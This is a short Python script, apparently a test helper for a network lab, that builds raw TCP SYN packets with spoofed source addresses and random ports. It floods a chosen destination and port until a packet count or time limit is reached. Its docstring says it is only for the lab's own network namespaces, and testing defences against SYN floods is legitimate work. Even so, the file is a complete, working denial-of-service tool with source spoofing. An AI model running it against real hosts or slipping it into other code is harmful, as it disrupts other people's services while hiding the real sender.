#!/usr/bin/env python3
"""A bounded SYN flood for the lab: COUNT TCP SYNs with random source
addresses (100.64.0.0/10) and ports to DST:PORT, sent through a raw socket
from the namespace it runs in, stopping after COUNT packets or SECONDS,
whichever comes first. Prints the number sent.

Only for the lab's own namespaces (tests run it with `ip netns exec`).

Usage: synflood.py DST PORT COUNT SECONDS
"""
import random
import socket
import struct
import sys
import time


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def syn(src: bytes, dst: bytes, sport: int, dport: int, seq: int) -> bytes:
    # TCP header with an MSS option (24 bytes).
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 6 << 4, 0x02, 64240, 0, 0)
    tcp += struct.pack("!BBH", 2, 4, 1460)
    pseudo = src + dst + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64,
                     socket.IPPROTO_TCP, 0, src, dst)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return ip + tcp


def main() -> None:
    dst_s, port, count, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
    dst = socket.inet_aton(dst_s)
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    rnd = random.Random(0x5EED)
    deadline = time.monotonic() + seconds
    sent = 0
    while sent < count and time.monotonic() < deadline:
        src = struct.pack("!I", (100 << 24 | 64 << 16) + rnd.randrange(1 << 22))
        s.sendto(syn(src, dst, rnd.randrange(1024, 65536), port, rnd.randrange(1 << 32)), (dst_s, 0))
        sent += 1
    print(sent)


if __name__ == "__main__":
    main()
